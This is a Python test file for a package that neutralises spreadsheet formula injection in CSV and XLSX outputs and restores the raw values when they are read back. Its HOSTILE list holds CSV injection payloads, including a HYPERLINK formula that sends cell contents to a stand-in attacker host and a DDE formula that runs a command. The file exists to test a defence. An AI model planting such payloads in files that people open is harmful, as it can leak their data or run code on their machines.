"""CSV outputs safe to open in a spreadsheet (OWASP CSV injection), reversible by the readers."""

import csv
import re
import warnings
from dataclasses import replace

import numpy as np
import pandas as pd
import pytest

from cxinfluence.village.csvsafe import (
    neutralise_arrow,
    neutralise_cell,
    neutralise_frame,
    read_output_csv,
    restore_arrow,
    restore_cell,
    restore_frame,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*C4", "+1+1",
           "-2+3", "\t=1+1", "\r=1+1", " =1+1", "'=already quoted", "-x", "@", "=", "-3x", "''@x", "\n-1-1"]
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def formula_like(cell: str) -> bool:
    """What Excel / LibreOffice could evaluate: a cell starting with = + - @ tab CR (or spaces then one), not a number."""
    stripped = cell.lstrip(" \n\t\r")
    return bool(cell) and (cell[0] in "\t\r" or stripped[:1] in ("=", "+", "-", "@")) and not PLAIN_NUMBER.fullmatch(cell)


def csv_cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


# --------------------------------------------------------------------------- the rule


def test_rule_neutralises_hostile_text_and_keeps_the_rest():
    for h in HOSTILE:
        assert not formula_like(neutralise_cell(h)), repr(h)
        assert neutralise_cell(h).startswith("'"), repr(h)
    for ok in ["great service", "-3.2", "+1", "1e5", "-2e-3", "", "Plant Manager", "'quoted' text", "a=b"]:
        assert neutralise_cell(ok) == ok
    assert neutralise_cell(-3.2) == -3.2 and neutralise_cell(None) is None


def test_rule_is_reversible_on_random_text():
    rng = np.random.default_rng(7)
    alphabet = list("'=+-@ \t\r\nAb1.e")
    texts = ["".join(rng.choice(alphabet, size=rng.integers(0, 7))) for _ in range(20000)] + HOSTILE
    for t in texts:
        n = neutralise_cell(t)
        assert restore_cell(n) == t, repr(t)
        assert not formula_like(n), repr(t)
    # the vectorised (pyarrow, RE2) versions agree with the Python ones cell for cell
    import pyarrow as pa

    arr = pa.array(texts + [None])
    assert neutralise_arrow(arr).to_pylist() == [neutralise_cell(t) for t in texts] + [None]
    assert restore_arrow(neutralise_arrow(arr)).to_pylist() == texts + [None]


def test_frame_helpers_touch_only_text():
    df = pd.DataFrame({"=h": ["=1", "a"], "x": [-3.2, 1.0], "n": pd.array([-1, 2], dtype="Int64"),
                       "s": pd.Series(["@x", None], dtype="str"), "c": pd.Categorical(["-y", "z"])})
    out = neutralise_frame(df)
    assert list(out.columns) == ["'=h", "x", "n", "s", "c"]
    assert out["'=h"].tolist() == ["'=1", "a"] and out["s"].tolist()[0] == "'@x"
    assert out["c"].tolist() == ["'-y", "z"]
    assert out["x"].tolist() == [-3.2, 1.0] and out["n"].tolist() == [-1, 2]
    back = restore_frame(out)
    assert list(back.columns) == list(df.columns) and back["=h"].tolist() == ["=1", "a"]
    assert df["=h"].tolist() == ["=1", "a"]  # input untouched


# --------------------------------------------------------------------------- a run on hostile text


def hostile_village(n_accounts=24, seed=5):
    """A synthetic village with formula-like text in every text column, ids included."""
    from cxinfluence.village.synth import make_village

    v, _ = make_village(n_accounts, seed=seed)
    acc, st, rel = v.accounts.copy(), v.stakeholders.copy(), v.relationships.copy()
    rsp, out = v.responses.copy(), v.outcomes.copy()
    amap = dict(zip(acc["account_id"][:3], HOSTILE[:3]))
    # ids must stay distinct once stripped (loading strips edge spaces; maps refuse ids equal as text)
    smap = dict(zip(st["stakeholder_id"][:4], ["+1+1", "-2+3", "\t=1+1", "@x"]))

    def ids(s, m):
        return s.map(lambda x: m.get(x, x)).astype(s.dtype)

    for df in (acc, st, out):
        df["account_id"] = ids(df["account_id"], amap)
    st["stakeholder_id"] = ids(st["stakeholder_id"], smap)
    rel["source_id"], rel["target_id"] = ids(rel["source_id"], smap), ids(rel["target_id"], smap)
    rsp["stakeholder_id"] = ids(rsp["stakeholder_id"], smap)

    def cycle(df, k):
        return pd.Series([HOSTILE[(i + k) % len(HOSTILE)] for i in range(len(df))], index=df.index, dtype="str")

    for df, cols in ((acc, ["name", "segment", "region", "owner"]), (st, ["name", "title", "department"]),
                     (rsp, ["touchpoint", "comment", "response_id"])):
        for k, c in enumerate(cols):
            df[c] = cycle(df, k)
    rsp["=extra"] = cycle(rsp, 5)
    return replace(v, accounts=acc, stakeholders=st, relationships=rel, responses=rsp, outcomes=out)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    from cxinfluence.pipeline.runner import run

    out = tmp_path_factory.mktemp("hostile") / "out"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        result = run(hostile_village(), out, maps=3, quiet=True, folds=2, n_boot=5)
    return out, result


def test_no_formula_like_cell_in_any_output_csv(hostile_run):
    out, _ = hostile_run
    files = sorted(out.rglob("*.csv"))
    assert len(files) >= 9
    neutralised = 0
    for f in files:
        cells = csv_cells(f)
        bad = [c for c in cells if formula_like(c)]
        assert not bad, (f.name, bad[:5])
        neutralised += sum(c.startswith("'") for c in cells)
    assert neutralised > 500  # the hostile text did reach the outputs, neutralised


def test_formula_like_labels_held_as_categoricals_are_neutralised(tmp_path):
    """The run holds a loaded village's response labels as categoricals (village/compact.py): hostile labels
    written from them (actions.csv's touchpoint) are neutralised like text."""
    from cxinfluence.pipeline.runner import run
    from cxinfluence.village.compact import compact_labels

    v = compact_labels(hostile_village())
    assert v.responses["touchpoint"].dtype.name == "category"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        run(v, tmp_path / "out", maps=0, quiet=True, folds=2, n_boot=5)
    actions = tmp_path / "out" / "actions.csv"
    header = next(csv.reader(actions.open(encoding="utf-8")))
    col = header.index("touchpoint")
    rows = list(csv.reader(actions.open(encoding="utf-8")))[1:]
    assert rows and not [c for r in rows for c in r if formula_like(c)]
    assert sum(r[col].startswith("'") for r in rows) > 0  # the hostile labels reached the file, neutralised


def test_reader_gives_back_the_raw_values(hostile_run):
    out, result = hostile_run
    checked = 0
    for f in sorted(out.glob("*.csv")):
        table = result.tables[f.stem]
        back = read_output_csv(f)
        assert list(back.columns) == [str(c) for c in table.columns], f.name
        assert len(back) == len(table)
        for c in table.columns:
            s = table[c]
            if s.dtype == object or pd.api.types.is_string_dtype(s):
                # a CSV cannot tell "" from missing: both read back as missing
                values = [None if pd.isna(x) or x == "" else x for x in s.astype(object)]
                got = back[c].astype(object).where(back[c].notna(), None).tolist()
                assert got == values, (f.name, c)
                checked += 1
            elif pd.api.types.is_float_dtype(s):  # numbers stay numbers, negatives included
                np.testing.assert_allclose(back[c].to_numpy(float), s.to_numpy(float), rtol=1e-12, equal_nan=True)
    assert checked > 20
    # ids stay joinable with the village
    infl = read_output_csv(out / "influence.csv")
    village = hostile_village()
    assert set(HOSTILE[:3]) <= set(infl["account_id"]) <= set(village.accounts["account_id"])
    assert set(infl["stakeholder_id"]) <= set(village.stakeholders["stakeholder_id"])
    assert len({"+1+1", "-2+3", "\t=1+1", "@x"} & set(infl["stakeholder_id"])) >= 2


def test_numbers_are_written_as_numbers(tmp_path):
    from cxinfluence.village.io import write_csv

    write_csv(pd.DataFrame({"id": ["-1", "=1"], "x": [-3.2, -1.0], "n": [-4, 5]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text().splitlines() == ['"id","x","n"', '"-1",-3.2,-4', '"\'=1",-1,5']


# --------------------------------------------------------------------------- villages round-trip


def test_village_csv_is_neutralised_and_round_trips(tmp_path):
    from cxinfluence import load_village, write_village

    v = hostile_village(n_accounts=6, seed=2)
    path = write_village(v, tmp_path / "v")
    for f in path.glob("*.csv"):
        assert not [c for c in csv_cells(f) if formula_like(c)], f.name
    once = load_village(path, warn=False)
    # the hostile text comes back raw (loading strips edge spaces and lower-cases department, as always)
    for table, column in [("accounts", "account_id"), ("accounts", "name"), ("accounts", "owner"),
                          ("stakeholders", "stakeholder_id"), ("stakeholders", "title"),
                          ("responses", "comment"), ("responses", "touchpoint"), ("responses", "=extra")]:
        raw = getattr(v, table)[column].str.strip().tolist()
        assert getattr(once, table)[column].tolist() == raw, (table, column)
    # a village written by write_village and loaded again round-trips exactly
    twice = load_village(write_village(once, tmp_path / "v2"), warn=False)
    for name, df in once.tables().items():
        pd.testing.assert_frame_equal(twice.tables()[name], df, obj=name)


def test_appended_comments_are_neutralised_and_read_back(tmp_path):
    from cxinfluence import load_village, write_village
    from cxinfluence.comments.capture import append_comments

    v = hostile_village(n_accounts=6, seed=2)
    path = write_village(v, tmp_path / "v")
    sid = v.stakeholders["stakeholder_id"].iloc[5]
    new = pd.DataFrame({"stakeholder_id": [sid], "date": ["2024-06-01"], "comment": ["=cmd|' /C calc'!A0\rsecond line"],
                        "channel": ["informal"]})
    append_comments(path, new)
    assert not [c for c in csv_cells(path / "responses.csv") if formula_like(c)]
    back = load_village(path, warn=False)
    assert back.responses["comment"].iloc[-1] == "=cmd|' /C calc'!A0\rsecond line"


def test_xlsx_village_stores_formula_like_text_as_text(tmp_path):
    import openpyxl

    from cxinfluence import load_village, write_village

    v = hostile_village(n_accounts=6, seed=2)
    path = write_village(v, tmp_path / "v.xlsx", format="xlsx")
    wb = openpyxl.load_workbook(path)
    assert not [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    back = load_village(path, warn=False)
    assert back.accounts["account_id"].tolist() == v.accounts["account_id"].tolist()
    assert back.responses["comment"].tolist() == v.responses["comment"].str.strip().tolist()
    assert "=extra" in back.responses.columns
